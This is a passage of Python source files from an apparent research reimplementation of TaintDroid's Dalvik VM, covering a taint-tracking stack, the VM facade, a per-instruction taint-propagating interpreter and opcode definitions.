            taint: TaintLabel = TAINT_CLEAR, is_ref: bool = False) -> None:
        if taint:
            self.maybe_tainted = True
        self.memory.write_u32x2(self.slot_address(register), value, taint)
        self.ref_flags[register] = is_ref

    def set_taint(self, register: int, taint: TaintLabel) -> None:
        if taint:
            self.maybe_tainted = True
        self.memory.write_u32(self.taint_address(register), taint)

    def add_taint(self, register: int, taint: TaintLabel) -> None:
        self.set_taint(register, self.get_taint(register) | taint)

    # -- ins placement (Dalvik puts arguments in the highest registers) ------------

    def first_in_register(self) -> int:
        return self.register_count - self.method.ins_size

    def __repr__(self) -> str:
        return (f"<frame {self.method.full_name} fp=0x{self.fp:08x} "
                f"regs={self.register_count}>")


class DvmStack:
    """The interpreted stack: frame push/pop plus the outs-area protocol."""

    def __init__(self, memory: Memory, base: int = DVM_STACK_BASE,
                 size: int = DVM_STACK_SIZE) -> None:
        self.memory = memory
        self.base = base
        self.size = size
        self._stack_pointer = base          # grows downward
        self.frames: List[Frame] = []

    @property
    def depth(self) -> int:
        return len(self.frames)

    @property
    def current(self) -> Optional[Frame]:
        return self.frames[-1] if self.frames else None

    def push_frame(self, method: Method) -> Frame:
        """Allocate a frame: StackSaveArea then interleaved register slots."""
        frame_bytes = SAVE_AREA_SIZE + SLOT_SIZE * method.registers_size
        new_sp = self._stack_pointer - frame_bytes
        if new_sp < self.base - self.size:
            raise DalvikError(
                f"StackOverflowError in {method.full_name} "
                f"(depth {len(self.frames)})")
        prev_fp = self.frames[-1].fp if self.frames else 0
        fp = new_sp
        save_area = fp + SLOT_SIZE * method.registers_size
        self.memory.write_u32(save_area, prev_fp)
        self.memory.write_u32(save_area + 8, 0)  # return-taint slot
        frame = Frame(self.memory, fp, method, prev_fp)
        # Zero the slots so stale values/taints never leak between calls.
        self.memory.fill(fp, SLOT_SIZE * method.registers_size, 0)
        self.frames.append(frame)
        self._stack_pointer = new_sp
        return frame

    def pop_frame(self) -> Frame:
        if not self.frames:
            raise DalvikError("pop on empty DVM stack")
        frame = self.frames.pop()
        frame_bytes = SAVE_AREA_SIZE + SLOT_SIZE * frame.register_count
        self._stack_pointer += frame_bytes
        return frame

    # -- the native-call outs protocol (paper Fig. 1, right side) ----------------

    def write_native_args(self, values: List[int], taints: List[TaintLabel],
                          return_taint: TaintLabel = TAINT_CLEAR) -> int:
        """Store native-call arguments + interleaved taints; return args ptr.

        "If the target is a native method, TaintDroid will store both the
        parameters' taint labels and the return value's taint label that is
        appended to the parameters."  The returned pointer is what
        ``dvmCallJNIMethod`` receives as its first argument.
        """
        count = len(values)
        block = SLOT_SIZE * count + 4
        args_ptr = self._stack_pointer - block
        for index, (value, taint) in enumerate(zip(values, taints)):
            self.memory.write_u32(args_ptr + SLOT_SIZE * index,
                                  value & 0xFFFF_FFFF)
            self.memory.write_u32(args_ptr + SLOT_SIZE * index + 4, taint)
        self.memory.write_u32(args_ptr + SLOT_SIZE * count, return_taint)
        return args_ptr

    @staticmethod
    def read_native_arg(memory: Memory, args_ptr: int, index: int):
        value = memory.read_u32(args_ptr + SLOT_SIZE * index)
        taint = memory.read_u32(args_ptr + SLOT_SIZE * index + 4)
        return value, taint

    @staticmethod
    def native_return_taint_address(args_ptr: int, count: int) -> int:
        return args_ptr + SLOT_SIZE * count
