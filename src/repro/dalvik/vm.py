"""The Dalvik VM facade: class registry, dispatch, GC roots, exceptions.

This object plays the role of ``libdvm`` for the rest of the system.  The
JNI layer installs its call bridge here (``dvmCallJNIMethod``), the
framework registers intrinsics for Android API methods, and the analysis
engines reach the heap, stack and indirect reference table through it.
"""

from __future__ import annotations

from typing import Callable, Dict, List, Optional, Tuple

from repro.common.errors import DalvikError
from repro.common.events import EventLog
from repro.common.taint import TAINT_CLEAR, TaintLabel
from repro.dalvik.classes import ClassDef, Method
from repro.dalvik.heap import DvmHeap, ObjectRecord, Slot
from repro.dalvik.interpreter import Interpreter, PendingException
from repro.dalvik.irt import IndirectRefTable
from repro.dalvik.stack import DvmStack
from repro.memory.memory import Memory

# An intrinsic implements a framework method in Python:
# (vm, args) -> Slot or None (for void).
Intrinsic = Callable[["DalvikVM", List[Slot]], Optional[Slot]]
# The JNI call bridge: (vm, method, args) -> Slot.
CallBridge = Callable[["DalvikVM", Method, List[Slot]], Slot]


class DalvikVM:
    """One virtual machine instance (single interpreted thread)."""

    def __init__(self, memory: Memory,
                 event_log: Optional[EventLog] = None) -> None:
        self.memory = memory
        self.event_log = event_log if event_log is not None else EventLog()
        self.heap = DvmHeap(memory)
        self.irt = IndirectRefTable()
        self.stack = DvmStack(memory)
        self.interpreter = Interpreter(self)
        self.classes: Dict[str, ClassDef] = {}
        self.intrinsics: Dict[str, Intrinsic] = {}
        self._interned: Dict[str, int] = {}
        # InterpSaveState: the last invoke's return value and taint
        # (TaintDroid copies the return taint here, Section II.B).
        self.interp_save_state = Slot()
        self.caught_exception: Optional[PendingException] = None
        self.taint_tracking = True
        self.call_bridge: Optional[CallBridge] = None
        # Provenance ledger (observability); None when not tracing.  The
        # interpreter hoists the lookup out of its dispatch loop and uses
        # ``ledger_epoch`` to notice attach/detach mid-run.
        self._ledger = None
        self.ledger_epoch = 0
        # Dalvik trace compiler (None = single-step oracle only);
        # installed by :meth:`enable_trace_compiler`.
        self.tbc = None

        self.heap.set_root_scanner(self._scan_roots)
        self.heap.add_move_listener(self.irt.on_object_moved)
        self.heap.add_post_gc_hook(self._write_back_frames)
        self.heap.add_post_gc_hook(self._rebuild_intern_table)
        self._root_frame_slots: List[Tuple[object, int, Slot]] = []

    # -- observability ------------------------------------------------------------

    @property
    def ledger(self):
        return self._ledger

    @ledger.setter
    def ledger(self, value) -> None:
        self._ledger = value
        self.ledger_epoch += 1

    # -- trace compilation ---------------------------------------------------------

    def enable_trace_compiler(self) -> None:
        """Attach the Dalvik trace compiler (lazy per-region compilation)."""
        if self.tbc is None:
            from repro.dalvik.tbc import DalvikTraceCompiler
            self.tbc = DalvikTraceCompiler(self)

    def disable_trace_compiler(self) -> None:
        """Back to the single-step oracle (differential test harnesses)."""
        self.tbc = None

    # -- classes ------------------------------------------------------------------

    def register_class(self, class_def: ClassDef) -> ClassDef:
        self.classes[class_def.name] = class_def
        if self.tbc is not None:
            # Redefinition may replace Method objects mid-run; drop every
            # compiled block rather than tracking which methods changed.
            self.tbc.flush()
        return self.classes[class_def.name]

    def class_by_name(self, name: str) -> ClassDef:
        found = self.classes.get(name)
        if found is None:
            raise DalvikError(f"class not loaded: {name!r}")
        return found

    def register_intrinsic(self, symbol: str, function: Intrinsic) -> None:
        self.intrinsics[symbol] = function

    def resolve_method(self, symbol: str) -> Method:
        """Resolve ``Lcls;->name`` walking the superclass chain."""
        class_name, _, method_name = symbol.partition("->")
        if not method_name:
            raise DalvikError(f"bad method symbol {symbol!r}")
        current: Optional[str] = class_name
        while current is not None:
            class_def = self.classes.get(current)
            if class_def is None:
                break
            method = class_def.methods.get(method_name)
            if method is not None:
                return method
            current = class_def.superclass
        raise DalvikError(f"unresolved method {symbol!r}")

    # -- invocation ----------------------------------------------------------------

    def invoke_symbol(self, symbol: str, args: List[Slot],
                      virtual: bool = False) -> Slot:
        intrinsic = self.intrinsics.get(symbol)
        if intrinsic is not None:
            result = intrinsic(self, args)
            return result if result is not None else Slot()
        if virtual and args and args[0].is_ref and args[0].value:
            # Virtual dispatch on the receiver's runtime class.
            receiver = self.heap.get(args[0].value)
            method_name = symbol.partition("->")[2]
            runtime_symbol = f"{receiver.class_name}->{method_name}"
            try:
                method = self.resolve_method(runtime_symbol)
            except DalvikError:
                method = self.resolve_method(symbol)
        else:
            method = self.resolve_method(symbol)
        return self.invoke(method, args)

    def invoke(self, method: Method, args: List[Slot]) -> Slot:
        if method.is_native:
            if self.call_bridge is None:
                raise DalvikError(
                    f"native {method.full_name} but no JNI bridge installed")
            return self.call_bridge(self, method, args)
        return self.interpreter.execute(method, args)

    def call_main(self, symbol: str, args: Optional[List[Slot]] = None) -> Slot:
        """Convenience entry point used by scenario apps and tests."""
        return self.invoke_symbol(symbol, args or [])

    # -- objects and strings ------------------------------------------------------------

    def new_instance(self, class_name: str) -> ObjectRecord:
        class_def = self.classes.get(class_name)
        field_defs = class_def.instance_fields if class_def else None
        return self.heap.alloc_object(class_name, field_defs)

    def new_exception(self, class_name: str, detail: str) -> ObjectRecord:
        record = self.heap.alloc_object(class_name)
        message = self.heap.alloc_string(detail)
        record.fields["message"] = Slot(message.address, TAINT_CLEAR, True)
        return record

    def intern_string(self, text: str) -> int:
        address = self._interned.get(text)
        if address is not None and self.heap.contains(address):
            return address
        record = self.heap.alloc_string(text)
        self._interned[text] = record.address
        return record.address

    def string_value(self, record: ObjectRecord) -> str:
        if not record.is_string:
            raise DalvikError(f"not a string: {record!r}")
        return record.text

    def string_at(self, address: int) -> str:
        return self.string_value(self.heap.get(address))

    # -- statics -------------------------------------------------------------------------

    def _static_slot(self, symbol: str):
        class_name, _, field_name = symbol.partition("->")
        class_def = self.class_by_name(class_name)
        if field_name not in class_def.static_values:
            raise DalvikError(f"no static field {symbol!r}")
        return class_def, field_name

    def get_static(self, symbol: str) -> Tuple[int, TaintLabel]:
        class_def, field_name = self._static_slot(symbol)
        value, taint = class_def.static_values[field_name]
        return value, taint

    def set_static(self, symbol: str, value: int, taint: TaintLabel,
                   is_ref: bool = False) -> None:
        class_def, field_name = self._static_slot(symbol)
        class_def.static_values[field_name] = [value & 0xFFFF_FFFF, taint]
        class_def.static_ref_flags[field_name] = is_ref

    # -- GC plumbing -----------------------------------------------------------------------

    def gc(self) -> int:
        """Force a collection (tests use this to shake object addresses)."""
        return self.heap.collect()

    def _scan_roots(self) -> List[Slot]:
        roots: List[Slot] = []
        self._root_frame_slots = []
        # Interpreted frames.
        for frame in self.stack.frames:
            for register in range(frame.register_count):
                if frame.is_ref(register) and frame.get(register):
                    slot = Slot(frame.get(register), frame.get_taint(register),
                                True)
                    roots.append(slot)
                    self._root_frame_slots.append((frame, register, slot))
        # Static reference fields.
        for class_def in self.classes.values():
            for field_name, is_ref in class_def.static_ref_flags.items():
                values = class_def.static_values[field_name]
                if is_ref and values[0]:
                    slot = Slot(values[0], values[1], True)
                    roots.append(slot)
                    self._root_frame_slots.append((values, 0, slot))
        # Indirect references (local + global) held by native code.
        for address in self.irt.roots():
            slot = Slot(address, TAINT_CLEAR, True)
            roots.append(slot)
            # The IRT is updated via the move listener, not write-back.
        # The pending return value may hold a reference.
        if self.interp_save_state.is_ref and self.interp_save_state.value:
            roots.append(self.interp_save_state)
        return roots

    def _write_back_frames(self) -> None:
        for holder, index, slot in self._root_frame_slots:
            if isinstance(holder, list):
                holder[0] = slot.value
            else:
                holder.set(index, slot.value, slot.taint, is_ref=True)
        self._root_frame_slots = []

    def _rebuild_intern_table(self) -> None:
        self._interned = {
            record.text: record.address
            for record in self.heap._objects.values()
            if record.is_string and record.text in self._interned
        }

    # -- statistics --------------------------------------------------------------------------

    @property
    def dalvik_instructions(self) -> int:
        return self.interpreter.instructions_executed
