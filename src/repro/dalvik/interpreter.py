"""The Dalvik interpreter with TaintDroid's per-instruction propagation.

"TaintDroid tracks the taints of primitive type variables and object
references according to the logic of each DVM instruction" (Section II.B).
Every handler below moves taint alongside data with the union rule; the
``taint_tracking`` flag turns the extra work off for the vanilla-platform
benchmark configuration.

Exception flow: ``throw`` raises :class:`PendingException`, which unwinds
interpreted frames honouring each method's catch ranges — the carrier of
the paper's exception-based information flow (``ThrowNew``, Section V.B).
"""

from __future__ import annotations

from typing import List, Optional

from repro.common.errors import DalvikError
from repro.common.taint import TAINT_CLEAR
from repro.dalvik.classes import Method
from repro.dalvik.heap import Slot
from repro.dalvik.instructions import (
    BINARY_OPS,
    COMPARE_OPS,
    COMPARE_Z_OPS,
    Ins,
    Op,
    REF_DEST_OPS,
)
from repro.dalvik.stack import Frame
from repro.observability.ledger import Loc


class PendingException(Exception):
    """An in-flight Java exception (object address + its reference taint)."""

    def __init__(self, exception_address: int, taint: int,
                 class_name: str) -> None:
        super().__init__(class_name)
        self.exception_address = exception_address
        self.taint = taint
        self.class_name = class_name


def _signed(value: int) -> int:
    value &= 0xFFFF_FFFF
    return value - 0x1_0000_0000 if value & 0x8000_0000 else value


class Interpreter:
    """Executes interpreted methods against the VM's stack and heap."""

    def __init__(self, vm) -> None:
        self.vm = vm
        self.instructions_executed = 0
        # Optional per-instruction observer (the DroidScope comparator
        # uses this to model instruction-level DVM-state reconstruction).
        self.listener = None

    # -- entry point -----------------------------------------------------------

    def execute(self, method: Method, args: List[Slot]) -> Slot:
        """Run an interpreted method; returns the result slot."""
        if method.is_native:
            raise DalvikError(f"{method.full_name} is native")
        if len(args) != method.ins_size:
            raise DalvikError(
                f"{method.full_name} expects {method.ins_size} ins, "
                f"got {len(args)}")
        vm = self.vm
        frame = vm.stack.push_frame(method)
        first_in = frame.first_in_register()
        for offset, slot in enumerate(args):
            frame.set(first_in + offset, slot.value, slot.taint, slot.is_ref)
        try:
            return self._run(frame)
        finally:
            vm.stack.pop_frame()

    def execute_frame(self, frame: Frame) -> Slot:
        """Run an already-pushed frame (the ``dvmInterpret`` entry path).

        The JNI-exit machinery pushes the frame and copies arguments in
        *before* ``dvmInterpret`` runs, so instrumentation at the
        ``dvmInterpret`` boundary (NDroid's hook) can patch taints into the
        frame slots first.  The caller owns push/pop.
        """
        return self._run(frame)

    # -- main loop -----------------------------------------------------------------

    def _run(self, frame: Frame) -> Slot:
        vm = self.vm
        # Trace-compiled fast path: active when the VM carries a compiler
        # and no per-instruction listener needs to see every bytecode
        # (the DroidScope comparator forces the single-step oracle).
        tbc = vm.tbc
        if tbc is not None and self.listener is None:
            return self._run_compiled(frame, tbc)
        method = frame.method
        code = method.code
        taint_on = vm.taint_tracking
        # The provenance ledger is resolved once per frame run, not per
        # instruction; ``ledger_epoch`` bumps whenever observability
        # attaches/detaches one, so a cheap int compare re-validates it.
        ledger = vm._ledger
        epoch = vm.ledger_epoch
        while True:
            if frame.pc >= len(code):
                raise DalvikError(
                    f"fell off the end of {method.full_name}")
            ins = code[frame.pc]
            self.instructions_executed += 1
            if self.listener is not None:
                self.listener(frame, ins)
            if epoch != vm.ledger_epoch:
                ledger = vm._ledger
                epoch = vm.ledger_epoch
            try:
                result = self._dispatch(frame, ins, taint_on, ledger)
            except PendingException as pending:
                handler = self._find_handler(method, frame.pc)
                if handler is None:
                    raise
                self.vm.caught_exception = pending
                frame.pc = handler
                continue
            if result is not None:
                return result

    def _run_compiled(self, frame: Frame, tbc) -> Slot:
        """The block-replay loop: lazily compile, then execute cached blocks.

        Mirrors ``_run``'s exception unwinding exactly; per-block
        instruction accounting happens inside ``DalvikBlock.execute``.
        """
        vm = self.vm
        method = frame.method
        blocks = tbc.blocks_for(method)
        tracking = vm.taint_tracking
        while True:
            block = blocks.get(frame.pc)
            if block is None:
                block = tbc.compile(method, frame.pc)
            else:
                tbc.hits += 1
            try:
                result = block.execute(frame, self, tracking)
            except PendingException as pending:
                handler = self._find_handler(method, frame.pc)
                if handler is None:
                    raise
                vm.caught_exception = pending
                frame.pc = handler
                continue
            if result is not None:
                return result

    @staticmethod
    def _find_handler(method: Method, pc: int) -> Optional[int]:
        for start, end, handler in method.catch_ranges:
            if start <= pc < end:
                return handler
        return None

    # -- dispatch ----------------------------------------------------------------------

    def _dispatch(self, frame: Frame, ins: Ins, taint_on: bool,
                  ledger=None) -> Optional[Slot]:
        op = ins.op
        vm = self.vm

        if op == Op.NOP:
            frame.pc += 1
            return None

        # -- moves ----------------------------------------------------------
        if op in (Op.MOVE, Op.MOVE_OBJECT):
            taint = frame.get_taint(ins.b) if taint_on else TAINT_CLEAR
            if taint and ledger is not None:
                ledger.record(taint, "dalvik:move",
                              Loc.dvreg(frame.slot_address(ins.b)),
                              Loc.dvreg(frame.slot_address(ins.a)))
            frame.set(ins.a, frame.get(ins.b), taint,
                      is_ref=(op == Op.MOVE_OBJECT))
            frame.pc += 1
            return None
        if op in (Op.MOVE_RESULT, Op.MOVE_RESULT_OBJECT):
            result = vm.interp_save_state
            taint = result.taint if taint_on else TAINT_CLEAR
            if taint and ledger is not None:
                ledger.record(taint, "dalvik:move-result",
                              Loc.java(taint),
                              Loc.dvreg(frame.slot_address(ins.a)))
            frame.set(ins.a, result.value, taint,
                      is_ref=(op == Op.MOVE_RESULT_OBJECT))
            frame.pc += 1
            return None
        if op == Op.MOVE_EXCEPTION:
            pending = vm.caught_exception
            if pending is None:
                raise DalvikError("move-exception with no pending exception")
            frame.set(ins.a, pending.exception_address,
                      pending.taint if taint_on else TAINT_CLEAR, is_ref=True)
            vm.caught_exception = None
            frame.pc += 1
            return None

        # -- constants -------------------------------------------------------
        if op == Op.CONST:
            frame.set(ins.a, int(ins.literal) & 0xFFFF_FFFF, TAINT_CLEAR)
            frame.pc += 1
            return None
        if op == Op.CONST_STRING:
            address = vm.intern_string(str(ins.literal))
            frame.set(ins.a, address, TAINT_CLEAR, is_ref=True)
            frame.pc += 1
            return None

        # -- returns -----------------------------------------------------------
        if op == Op.RETURN_VOID:
            return Slot(0, TAINT_CLEAR, False)
        if op == Op.RETURN:
            taint = frame.get_taint(ins.a) if taint_on else TAINT_CLEAR
            return Slot(frame.get(ins.a), taint, False)
        if op == Op.RETURN_OBJECT:
            taint = frame.get_taint(ins.a) if taint_on else TAINT_CLEAR
            return Slot(frame.get(ins.a), taint, True)

        # -- arithmetic -----------------------------------------------------------
        if op in BINARY_OPS:
            a = _signed(frame.get(ins.b))
            b = _signed(frame.get(ins.c))
            try:
                value = BINARY_OPS[op](a, b)
            except ZeroDivisionError:
                self._throw_new(frame, "Ljava/lang/ArithmeticException;",
                                "divide by zero")
            taint = (frame.get_taint(ins.b) | frame.get_taint(ins.c)) \
                if taint_on else TAINT_CLEAR
            frame.set(ins.a, value & 0xFFFF_FFFF, taint)
            frame.pc += 1
            return None
        if op == Op.ADD_INT_LIT:
            value = _signed(frame.get(ins.b)) + int(ins.literal)
            taint = frame.get_taint(ins.b) if taint_on else TAINT_CLEAR
            frame.set(ins.a, value & 0xFFFF_FFFF, taint)
            frame.pc += 1
            return None
        if op == Op.MUL_INT_LIT:
            value = _signed(frame.get(ins.b)) * int(ins.literal)
            taint = frame.get_taint(ins.b) if taint_on else TAINT_CLEAR
            frame.set(ins.a, value & 0xFFFF_FFFF, taint)
            frame.pc += 1
            return None
        if op == Op.NEG_INT:
            taint = frame.get_taint(ins.b) if taint_on else TAINT_CLEAR
            frame.set(ins.a, (-_signed(frame.get(ins.b))) & 0xFFFF_FFFF, taint)
            frame.pc += 1
            return None
        if op == Op.NOT_INT:
            taint = frame.get_taint(ins.b) if taint_on else TAINT_CLEAR
            frame.set(ins.a, (~frame.get(ins.b)) & 0xFFFF_FFFF, taint)
            frame.pc += 1
            return None

        # -- objects ------------------------------------------------------------------
        if op == Op.NEW_INSTANCE:
            record = vm.new_instance(ins.symbol)
            frame.set(ins.a, record.address, TAINT_CLEAR, is_ref=True)
            frame.pc += 1
            return None
        if op == Op.NEW_ARRAY:
            length = _signed(frame.get(ins.b))
            if length < 0:
                self._throw_new(frame,
                                "Ljava/lang/NegativeArraySizeException;",
                                str(length))
            record = vm.heap.alloc_array(ins.symbol or "I", length)
            frame.set(ins.a, record.address, TAINT_CLEAR, is_ref=True)
            frame.pc += 1
            return None
        if op == Op.ARRAY_LENGTH:
            record = self._array(frame, ins.b)
            taint = record.taint if taint_on else TAINT_CLEAR
            frame.set(ins.a, len(record.elements), taint)
            frame.pc += 1
            return None
        if op in (Op.AGET, Op.AGET_OBJECT):
            record = self._array(frame, ins.b)
            index = self._array_index(frame, ins.c, record)
            slot = record.elements[index]
            taint = (record.taint | frame.get_taint(ins.c)) \
                if taint_on else TAINT_CLEAR
            frame.set(ins.a, slot.value, taint,
                      is_ref=(op == Op.AGET_OBJECT))
            frame.pc += 1
            return None
        if op in (Op.APUT, Op.APUT_OBJECT):
            record = self._array(frame, ins.b)
            index = self._array_index(frame, ins.c, record)
            is_ref = op == Op.APUT_OBJECT
            record.elements[index] = Slot(frame.get(ins.a), TAINT_CLEAR,
                                          is_ref)
            if taint_on:
                # TaintDroid: one label per array object, grown by union.
                record.taint |= frame.get_taint(ins.a) | frame.get_taint(ins.c)
            vm.heap.sync_array_to_memory(record)
            frame.pc += 1
            return None
        if op in (Op.IGET, Op.IGET_OBJECT):
            slot = self._field(frame, ins.b, ins.symbol)
            frame.set(ins.a, slot.value,
                      slot.taint if taint_on else TAINT_CLEAR,
                      is_ref=(op == Op.IGET_OBJECT))
            frame.pc += 1
            return None
        if op in (Op.IPUT, Op.IPUT_OBJECT):
            slot = self._field(frame, ins.b, ins.symbol, create=True)
            slot.value = frame.get(ins.a)
            slot.taint = frame.get_taint(ins.a) if taint_on else TAINT_CLEAR
            slot.is_ref = op == Op.IPUT_OBJECT
            frame.pc += 1
            return None
        if op in (Op.SGET, Op.SGET_OBJECT):
            value, taint = vm.get_static(ins.symbol)
            frame.set(ins.a, value, taint if taint_on else TAINT_CLEAR,
                      is_ref=(op == Op.SGET_OBJECT))
            frame.pc += 1
            return None
        if op in (Op.SPUT, Op.SPUT_OBJECT):
            vm.set_static(ins.symbol, frame.get(ins.a),
                          frame.get_taint(ins.a) if taint_on else TAINT_CLEAR,
                          is_ref=(op == Op.SPUT_OBJECT))
            frame.pc += 1
            return None

        # -- invokes -------------------------------------------------------------------
        if op in (Op.INVOKE_VIRTUAL, Op.INVOKE_DIRECT, Op.INVOKE_STATIC):
            arg_slots = [
                Slot(frame.get(register),
                     frame.get_taint(register) if taint_on else TAINT_CLEAR,
                     frame.is_ref(register))
                for register in ins.args
            ]
            result = vm.invoke_symbol(ins.symbol, arg_slots,
                                      virtual=(op == Op.INVOKE_VIRTUAL))
            vm.interp_save_state = result
            frame.pc += 1
            return None

        # -- control flow ----------------------------------------------------------------
        if op == Op.GOTO:
            frame.pc = ins.target_index
            return None
        if op in COMPARE_OPS:
            taken = COMPARE_OPS[op](_signed(frame.get(ins.a)),
                                    _signed(frame.get(ins.b)))
            frame.pc = ins.target_index if taken else frame.pc + 1
            return None
        if op in COMPARE_Z_OPS:
            taken = COMPARE_Z_OPS[op](_signed(frame.get(ins.a)))
            frame.pc = ins.target_index if taken else frame.pc + 1
            return None

        # -- exceptions ----------------------------------------------------------------------
        if op == Op.THROW:
            address = frame.get(ins.a)
            record = vm.heap.get(address)
            raise PendingException(
                address,
                frame.get_taint(ins.a) if taint_on else TAINT_CLEAR,
                record.class_name)

        # -- string helpers ---------------------------------------------------------------------
        if op == Op.STRING_CONCAT:
            left = vm.heap.get(frame.get(ins.b))
            right = vm.heap.get(frame.get(ins.c))
            taint = TAINT_CLEAR
            if taint_on:
                taint = (left.taint | right.taint | frame.get_taint(ins.b)
                         | frame.get_taint(ins.c))
            record = vm.heap.alloc_string(
                vm.string_value(left) + vm.string_value(right), taint)
            frame.set(ins.a, record.address, taint, is_ref=True)
            frame.pc += 1
            return None
        if op == Op.INT_TO_STRING:
            taint = frame.get_taint(ins.b) if taint_on else TAINT_CLEAR
            record = vm.heap.alloc_string(str(_signed(frame.get(ins.b))),
                                          taint)
            frame.set(ins.a, record.address, taint, is_ref=True)
            frame.pc += 1
            return None

        raise DalvikError(f"unimplemented opcode {op}")

    # -- helpers --------------------------------------------------------------------------

    def _array(self, frame: Frame, register: int):
        address = frame.get(register)
        if address == 0:
            self._throw_new(frame, "Ljava/lang/NullPointerException;",
                            "null array")
        record = self.vm.heap.get(address)
        if not record.is_array:
            raise DalvikError(f"v{register} does not hold an array")
        return record

    def _array_index(self, frame: Frame, register: int, record) -> int:
        index = _signed(frame.get(register))
        if not 0 <= index < len(record.elements):
            self._throw_new(frame,
                            "Ljava/lang/ArrayIndexOutOfBoundsException;",
                            str(index))
        return index

    def _field(self, frame: Frame, register: int, name: str,
               create: bool = False) -> Slot:
        address = frame.get(register)
        if address == 0:
            self._throw_new(frame, "Ljava/lang/NullPointerException;",
                            f"null receiver for field {name}")
        record = self.vm.heap.get(address)
        slot = record.fields.get(name)
        if slot is None:
            if not create:
                raise DalvikError(
                    f"object {record.class_name} has no field {name!r}")
            slot = Slot()
            record.fields[name] = slot
        return slot

    def _throw_new(self, frame: Frame, class_name: str, detail: str):
        record = self.vm.new_exception(class_name, detail)
        raise PendingException(record.address, TAINT_CLEAR, class_name)
