"""Dalvik bytecode: opcodes and the instruction record.

A reduced but faithful register-based instruction set.  Operands follow
Dalvik conventions: ``vA``/``vB``/``vC`` register indices, literals,
string/type/field/method references, and label-based branch targets that
:class:`~repro.dalvik.classes.MethodBuilder` resolves to indices.
"""

from __future__ import annotations

import enum
from dataclasses import dataclass, field
from typing import Any, Optional, Tuple


class Op(enum.Enum):
    """Dalvik opcodes (names follow dexdump mnemonics)."""

    NOP = "nop"
    # moves
    MOVE = "move"
    MOVE_OBJECT = "move-object"
    MOVE_RESULT = "move-result"
    MOVE_RESULT_OBJECT = "move-result-object"
    MOVE_EXCEPTION = "move-exception"
    # constants
    CONST = "const"
    CONST_STRING = "const-string"
    # returns
    RETURN_VOID = "return-void"
    RETURN = "return"
    RETURN_OBJECT = "return-object"
    # arithmetic / logic (int)
    ADD_INT = "add-int"
    SUB_INT = "sub-int"
    MUL_INT = "mul-int"
    DIV_INT = "div-int"
    REM_INT = "rem-int"
    AND_INT = "and-int"
    OR_INT = "or-int"
    XOR_INT = "xor-int"
    SHL_INT = "shl-int"
    SHR_INT = "shr-int"
    USHR_INT = "ushr-int"
    ADD_INT_LIT = "add-int/lit"
    MUL_INT_LIT = "mul-int/lit"
    NEG_INT = "neg-int"
    NOT_INT = "not-int"
    # objects
    NEW_INSTANCE = "new-instance"
    NEW_ARRAY = "new-array"
    ARRAY_LENGTH = "array-length"
    AGET = "aget"
    APUT = "aput"
    AGET_OBJECT = "aget-object"
    APUT_OBJECT = "aput-object"
    IGET = "iget"
    IPUT = "iput"
    IGET_OBJECT = "iget-object"
    IPUT_OBJECT = "iput-object"
    SGET = "sget"
    SPUT = "sput"
    SGET_OBJECT = "sget-object"
    SPUT_OBJECT = "sput-object"
    # calls
    INVOKE_VIRTUAL = "invoke-virtual"
    INVOKE_DIRECT = "invoke-direct"
    INVOKE_STATIC = "invoke-static"
    # control flow
    GOTO = "goto"
    IF_EQ = "if-eq"
    IF_NE = "if-ne"
    IF_LT = "if-lt"
    IF_GE = "if-ge"
    IF_GT = "if-gt"
    IF_LE = "if-le"
    IF_EQZ = "if-eqz"
    IF_NEZ = "if-nez"
    IF_LTZ = "if-ltz"
    IF_GEZ = "if-gez"
    # exceptions
    THROW = "throw"
    # strings (modelled String ops the framework uses heavily)
    STRING_CONCAT = "string-concat"   # vA = vB + vC (String)
    INT_TO_STRING = "int-to-string"   # vA = String.valueOf(vB)


# Opcodes whose destination holds an object reference.
REF_DEST_OPS = frozenset({
    Op.MOVE_OBJECT, Op.MOVE_RESULT_OBJECT, Op.MOVE_EXCEPTION,
    Op.CONST_STRING, Op.NEW_INSTANCE, Op.NEW_ARRAY, Op.AGET_OBJECT,
    Op.IGET_OBJECT, Op.SGET_OBJECT, Op.STRING_CONCAT, Op.INT_TO_STRING,
})

BINARY_OPS = {
    Op.ADD_INT: lambda a, b: a + b,
    Op.SUB_INT: lambda a, b: a - b,
    Op.MUL_INT: lambda a, b: a * b,
    Op.DIV_INT: lambda a, b: _c_div(a, b),
    Op.REM_INT: lambda a, b: _c_rem(a, b),
    Op.AND_INT: lambda a, b: a & b,
    Op.OR_INT: lambda a, b: a | b,
    Op.XOR_INT: lambda a, b: a ^ b,
    Op.SHL_INT: lambda a, b: a << (b & 31),
    Op.SHR_INT: lambda a, b: a >> (b & 31),
    Op.USHR_INT: lambda a, b: (a & 0xFFFF_FFFF) >> (b & 31),
}

COMPARE_OPS = {
    Op.IF_EQ: lambda a, b: a == b,
    Op.IF_NE: lambda a, b: a != b,
    Op.IF_LT: lambda a, b: a < b,
    Op.IF_GE: lambda a, b: a >= b,
    Op.IF_GT: lambda a, b: a > b,
    Op.IF_LE: lambda a, b: a <= b,
}

COMPARE_Z_OPS = {
    Op.IF_EQZ: lambda a: a == 0,
    Op.IF_NEZ: lambda a: a != 0,
    Op.IF_LTZ: lambda a: a < 0,
    Op.IF_GEZ: lambda a: a >= 0,
}


def _c_div(a: int, b: int) -> int:
    if b == 0:
        raise ZeroDivisionError("divide by zero")
    quotient = abs(a) // abs(b)
    return quotient if (a >= 0) == (b >= 0) else -quotient


def _c_rem(a: int, b: int) -> int:
    return a - _c_div(a, b) * b


@dataclass
class Ins:
    """One Dalvik instruction.

    ``a``/``b``/``c`` are register indices (or a literal for ``lit``
    forms); ``literal`` holds const values or string literals; ``target``
    holds a label (resolved to ``target_index`` by the method builder);
    ``symbol`` names a class/field/method for object ops and invokes;
    ``args`` lists argument registers for invokes.
    """

    op: Op
    a: int = 0
    b: int = 0
    c: int = 0
    literal: Any = None
    target: Optional[str] = None
    target_index: int = -1
    symbol: str = ""
    args: Tuple[int, ...] = field(default_factory=tuple)

    def __str__(self) -> str:
        parts = [self.op.value]
        if self.op in (Op.INVOKE_VIRTUAL, Op.INVOKE_DIRECT, Op.INVOKE_STATIC):
            parts.append("{" + ", ".join(f"v{r}" for r in self.args) + "}")
            parts.append(self.symbol)
        else:
            parts.append(f"v{self.a}")
            if self.symbol:
                parts.append(self.symbol)
            if self.target is not None:
                parts.append(f"-> {self.target}")
        return " ".join(parts)
