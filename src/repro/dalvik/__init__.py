"""The Dalvik virtual machine substrate (as modified by TaintDroid).

A register-based bytecode VM with the structures every NDroid mechanism
hooks or parses:

* a DVM call stack **in emulated memory** with TaintDroid's layout — taint
  tags interleaved with registers, a ``StackSaveArea`` per frame, parameter
